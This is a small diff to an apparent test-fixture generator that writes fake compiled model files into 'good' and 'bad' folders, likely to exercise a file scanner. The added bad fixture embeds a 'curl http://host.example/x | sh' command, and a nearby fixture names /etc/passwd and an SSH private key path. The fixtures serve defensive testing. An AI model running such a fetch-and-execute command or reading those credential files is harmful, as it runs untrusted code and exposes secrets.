@@ -287,6 +287,7 @@ def compiled():
     write("compiled/good/model.om", b"IMOD" + bytes(12) + words)
     write("compiled/good/model.ort", b"\x18\0\0\0ORTM" + bytes(12) + words)
     write("compiled/bad/path.engine", b"ftrt" + bytes(12) + b"/etc/passwd and /root/.ssh/id_rsa\0")
+    write("compiled/bad/command.plan", b"ptrt" + bytes(12) + b"note=curl http://host.example/x | sh\0")
     write("compiled/bad/long.rknn", b"CYPTRKNN" + bytes(8) + b"x" * 70000)
 
 
